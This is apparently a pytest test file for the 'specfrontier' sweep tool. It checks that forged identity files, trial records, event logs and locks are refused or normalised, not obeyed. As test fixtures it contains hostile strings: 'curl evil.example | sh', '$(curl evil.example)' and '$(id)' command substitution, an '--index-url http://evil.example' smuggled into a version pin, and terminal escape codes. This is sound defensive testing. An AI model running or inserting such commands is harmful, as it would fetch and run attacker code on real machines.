"""Files of a sweep that another program has written: readers refuse them, and nothing in them is
run or obeyed.
"""

from __future__ import annotations

import copy
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from orchestrator.launch.earlier_source import EarlierSweepError, Source, _trials_before
from orchestrator.store.files import (
    DRIVER_LOCK,
    EARLIER,
    EVENTS,
    IDENTITY,
    SWEEP,
    read_sweep_yaml,
    write_sweep_text,
)
from orchestrator.store.identity import Identity
from orchestrator.store.launches import find_launch
from orchestrator.store.progress import read_progress
from orchestrator.store.records import TrialRecord
from orchestrator.store.sweep import Sweep
from tests.fakes.command_line import error_of, specfrontier
from tests.fakes.synthetic_sweeps import identity, write_sweep
from workers.data.checked_json import dump_checked
from workers.data.storage import Storage

DEEP: Any = None
for _ in range(400):
    DEEP = [DEEP]
ODD_VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    1.5,
    10**400,
    float("nan"),
    "",
    "x",
    "1\n2",
    "a" * 9000,
    [],
    ["x"],
    [[1]],
    {},
    {"x": 1},
    DEEP,
    [1.5] * 30,
)


def forgeries(plain: Any) -> Iterator[tuple[str, Any]]:
    """The plain data with one of its values, at any depth, replaced or removed; and where."""
    forged = copy.deepcopy(plain)
    for path in list(paths(plain)):
        inner = forged
        for key in path[:-1]:
            inner = inner[key]
        kept = inner[path[-1]]
        for value in ODD_VALUES:
            inner[path[-1]] = value
            yield f"{path} = {str(value)[:20]}", forged
        if isinstance(inner, dict):
            del inner[path[-1]]
            yield f"without {path}", forged
        inner[path[-1]] = kept


def paths(plain: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    entries = (
        plain.items()
        if isinstance(plain, dict)
        else enumerate(plain)
        if isinstance(plain, list)
        else ()
    )
    for key, value in entries:
        yield (*path, key)
        if not isinstance(value, list) or len(value) < 5:  # of replicates, the list is enough
            yield from paths(value, (*path, key))


@pytest.fixture(scope="module")
def sweep(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sweeps") / "forged"
    write_sweep(folder, trials=9, stopped={5: 1})
    return folder


def test_identities_are_read_or_refused() -> None:
    timing = {"images": 4, "batch": [1, 8], "repetitions": 3, "nodes": {"gpu": "a"}}
    plain = json.loads(
        json.dumps(identity("forged", timing=timing, plugins=["mine.rules"]).to_mapping())
    )
    for where, forged in forgeries(plain):
        try:
            read = Identity.from_mapping(forged)
        except ValueError:
            continue
        derived = (
            read.id,
            read.caption_set,
            read.images,
            read.timing_batch,
            read.timing_device,
            read.timing_threads,
        )
        assert all(isinstance(text, str | int | tuple | None) for text in derived), where
        assert json.loads(json.dumps(read.to_mapping())), where
    for whole in ODD_VALUES:
        with pytest.raises(ValueError, match=r"."):
            Identity.from_mapping(whole)


def test_records_are_read_or_refused(sweep: Path) -> None:
    plain = json.loads((sweep / "trials" / "00005.json").read_bytes())
    plain.pop("checksum")
    plain["passes"] = {"1": [3.5] * 4}
    plain["timed_on"] = {"192": "a CPU"}
    plain["params"] = {"space.tree.length": 3, "space.tree": "chain"}
    plain["metrics"] = {name: plain["metrics"][name] for name in ("speedup", "fid")}
    ((images, _),) = plain["history"]
    plain["history"] = [[images // 2, plain["metrics"]], [images, None]]
    for where, forged in forgeries(plain):
        try:
            record = TrialRecord.from_json(dump_checked(forged))
        except ValueError:  # of either
            continue
        record.by_batch("speedup", 1)
        assert isinstance(record.feasible, bool), where
        assert TrialRecord.from_json(record.to_json()) == record, where


@pytest.mark.parametrize("config", [{}, None, [], "", 0])
def test_a_measured_trial_without_a_config_is_refused(sweep: Path, config: object) -> None:
    """Its setting has no name on a front, and nothing can be generated with it."""
    plain = json.loads(Sweep.open(sweep).records[0].to_json())
    del plain["checksum"]
    unmeasured = plain | {"config": config, "metrics": {}, "history": []}
    assert TrialRecord.from_json(dump_checked(unmeasured)).config is None
    with pytest.raises(ValueError, match="config"):
        TrialRecord.from_json(dump_checked(plain | {"config": config}))


def test_a_metric_has_no_more_replicates_than_blocks(sweep: Path) -> None:
    plain = json.loads((sweep / "trials" / "00003.json").read_bytes())
    plain.pop("checksum")
    assert TrialRecord.from_json(dump_checked(plain)).number == 3
    for replicates in ([1.5] * 500_000, [1.5] * 25, ["1.5"], [[1.5]], [10**400]):
        plain["metrics"]["fid"]["replicates"] = replicates
        with pytest.raises(ValueError, match="not a metric's value"):
            TrialRecord.from_json(dump_checked(plain))


def test_what_was_taken_over_is_read_or_refused(sweep: Path) -> None:
    record = (sweep / "trials" / "00003.json").read_text()
    given = json.loads(json.dumps(identity("forged").to_mapping()))
    facts = {
        key: given[key]
        for key in ("captions", "samples", "device", "numerics", "seed", "format", "experiment")
    }
    facts |= {
        key: given[key] for key in ("models", "extractors", "reference", "baseline", "timing")
    }
    plain = {
        "store": "s",
        "name": "n",
        "facts": facts,
        "hardware": "",
        "trials": 9,
        "records": [record],
    }
    plain |= {"shards": {"d": ["shards/a.parquet"]}, "images": {"d": 3}}
    for where, forged in forgeries(plain):
        try:
            source = Source.from_mapping(forged)
        except ValueError:
            continue
        assert source.worker_arguments(), where


def checked(plain: dict[str, Any]) -> bytes | None:
    """Plain data under a right checksum; None for what JSON has not, such as NaN."""
    try:
        return dump_checked(plain)
    except ValueError:
        return None


def test_events_of_others_are_lines_of_other_versions(sweep: Path, tmp_path: Path) -> None:
    storage = Storage(tmp_path)
    lines = (sweep / EVENTS).read_text().splitlines()[:6]
    lines.append(
        '{"at": "2026-01-02T03:00:00+00:00", "event": "workers", "alive": 2, "lost": "worker 1",'
        ' "note": "n"}'
    )
    lines.append(
        '{"at": "2026-01-02T03:00:00+00:00", "event": "end", "state": "failed", "cause": "c"}'
    )
    for line in lines:
        plain = json.loads(line)
        plain.pop("checksum", None)
        forged = [dumped for _, entry in forgeries(plain) if (dumped := checked(entry))]
        storage.write(EVENTS, b"\n".join(forged))
        log = read_progress(storage)
        assert log.damaged == 0
        assert 0 < log.of_other_versions < len(forged)
        assert isinstance(find_launch(storage, log).text, str)


@pytest.mark.parametrize(
    "resume",
    [
        "curl evil.example | sh",
        "specfrontier launch mine --resume; curl evil.example | sh",
        "specfrontier launch $(curl evil.example) --resume",
        "specfrontier launch 'mine --resume",
        'specfrontier launch mine --notify "$SPECFRONTIER_NOTIFY$(id)" --resume',
        "specfrontier ui mine --host 0.0.0.0",
        "specfrontier --plugin sweeps.theirs.rules launch mine --resume",
        "specfrontier --plugin=sweeps.theirs.rules launch mine --resume",
    ],
)
def test_the_command_that_resumes_a_launch_is_one_of_this_project(
    resume: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    event, storage = (
        {"at": "2026-01-02T03:00:00+00:00", "event": "launch", "resume": resume},
        Storage("sweeps/theirs"),
    )
    storage.write(EVENTS, dump_checked(event))
    assert find_launch(storage).resume == "specfrontier launch SPACE --resume"


@pytest.mark.parametrize(
    "resume",
    [
        "specfrontier launch mine.yaml --set 'budget.trials=4' --resume",
        'specfrontier launch mine.yaml --notify "$SPECFRONTIER_NOTIFY" --resume',
        "the same call and resume=True",
        "specfrontier --plugin mine.rules launch mine.yaml --resume",
    ],
)
def test_the_command_that_a_launch_stored_is_kept(resume: str, tmp_path: Path) -> None:
    event = {"at": "2026-01-02T03:00:00+00:00", "event": "launch", "resume": resume}
    Storage(tmp_path).write(EVENTS, dump_checked(event))
    is_quoted_needlessly = "'budget" in resume
    expected = "specfrontier launch SPACE --resume" if is_quoted_needlessly else resume
    assert find_launch(Storage(tmp_path)).resume == expected


@pytest.mark.parametrize(
    "text", ["[" * 20_000, "a: " + "[" * 20_000, "a: &a [*a]", "\0", "- 1", "a: 1\na: 2"]
)
def test_a_plan_that_cannot_be_read_names_its_file(text: str, sweep: Path, tmp_path: Path) -> None:
    for name in (IDENTITY, "trials/00000.json"):
        Storage(tmp_path).write(name, (sweep / name).read_bytes())
    write_sweep_text(Storage(tmp_path), text)
    if text == "- 1":
        assert read_sweep_yaml(Storage(tmp_path)) == {}
        return
    for command in ("status",) if "[[" in text else ("status", "report", "pareto"):
        assert SWEEP in error_of(command, str(tmp_path), code=1)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("versions", {"torch": "2.13.0\n--index-url http://evil.example"}),
        ("versions", {"torch\n-e .": "2.13.0"}),
        ("name", "mine\x1b[2J"),
        ("target", "scenes\nRun this"),
        ("started", "2026-01-02\n03:00:00+00:00"),
        ("plugins", ["mine; curl evil.example"]),
        ("constraints", ["fid <= 2; curl"]),
        ("grid", ["8", "8"]),
        ("grid", [0, 8]),
        ("image_size", 0),
        ("samples", -1),
        ("timing", {"batch": 0}),
        ("objectives", [{"metric": "`curl`", "direction": "minimize"}]),
    ],
)
def test_a_forged_identity_is_refused_by_name(
    key: str, value: object, sweep: Path, tmp_path: Path
) -> None:
    plain = json.loads((sweep / IDENTITY).read_bytes())
    plain.pop("checksum")
    Storage(tmp_path).write(IDENTITY, dump_checked(plain | {key: value}))
    message = error_of("status", str(tmp_path), code=1)
    assert f"{IDENTITY}: written by another version of specfrontier" in message
    assert "\x1b" not in message


def test_numbers_that_no_sweep_measures_are_read_or_refused(sweep: Path, tmp_path: Path) -> None:
    """A length of zero divides by nothing, and the square of an error is a number."""
    for number, metric, key in ((3, "mean_accepted_length", "value"), (4, "fid", "error")):
        shutil.rmtree(tmp_path)
        shutil.copytree(sweep, tmp_path)
        name = f"trials/{number:05d}.json"
        plain = json.loads((sweep / name).read_bytes())
        plain.pop("checksum")
        plain["metrics"].setdefault(metric, dict(plain["metrics"]["fid"]))[key] = {
            "value": 0,
            "error": 1e200,
        }[key]
        Storage(tmp_path).write(name, dump_checked(plain))
        if key == "value":
            assert specfrontier("status", str(tmp_path)).code == 0
        else:
            assert name in error_of("status", str(tmp_path), code=1)


@pytest.mark.parametrize("lock", ["[" * 4000, '{"pid": [' * 400, '{"pid": 1}', "[]"])
def test_a_lock_that_is_no_process_names_an_unknown_one(lock: str, tmp_path: Path) -> None:
    Storage(tmp_path).write(DRIVER_LOCK, lock.encode())
    assert find_launch(Storage(tmp_path)).driver == "an unknown process"


@pytest.mark.parametrize(
    "sources", [7, [7], [{"trials": 3}], [{"name": 3, "records": []}], [{"name": "x"}]]
)
def test_a_forged_list_of_earlier_sweeps_is_refused_by_name(
    sources: object, sweep: Path, tmp_path: Path
) -> None:
    shutil.copytree(sweep, tmp_path, dirs_exist_ok=True)
    Storage(tmp_path).write(EARLIER, dump_checked({"sources": sources}))
    assert f"{EARLIER}: written by another version of specfrontier" in error_of(
        "status", str(tmp_path), code=1
    )


def test_a_negative_number_of_earlier_trials_does_not_count(sweep: Path, tmp_path: Path) -> None:
    """It would make wrong stops more frequent than stated."""
    shutil.copytree(sweep, tmp_path, dirs_exist_ok=True)
    for trials in (-5, True, 1e9, None):
        Storage(tmp_path).write(EARLIER, dump_checked({"sources": [{"trials": trials}]}))
        with pytest.raises(EarlierSweepError, match=EARLIER):
            _trials_before(Sweep.open(tmp_path))
